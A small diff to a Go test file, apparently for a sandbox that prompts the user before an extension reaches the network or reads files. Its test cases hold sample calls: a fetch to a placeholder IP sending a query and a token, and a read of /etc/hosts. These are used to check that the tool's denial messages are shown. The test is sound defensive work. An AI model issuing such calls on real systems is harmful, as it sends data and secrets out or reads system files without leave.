@@ -126,7 +126,7 @@ func TestTerminalAsksTheSame(t *testing.T) {
 // is not told of once more.
 func TestScreenQuestionSaysAll(t *testing.T) {
 	for _, tt := range []struct{ code, shows, line string }{
-		{`fetch("http://192.0.2.1/up?q=what%20leaves&token=abc#no")`, "GET http://192.0.2.1/up?q=what%20leaves&token=abc", "✗ shown may not reach GET http://192.0.2.1/up"},
+		{`fetch("http://192.0.2.1/up?q=what%20leaves&token=abc#no")`, "GET http://192.0.2.1/up?q=what%20leaves&token=abc", "✗ shown may not reach GET"},
 		{`readFileSync("/etc/hosts")`, "/etc/hosts", "✗ shown may not read /etc/hosts"},
 	} {
 		p := startInTerminal(t, "run", writeExtension(t, `import { readFileSync } from "node:fs";
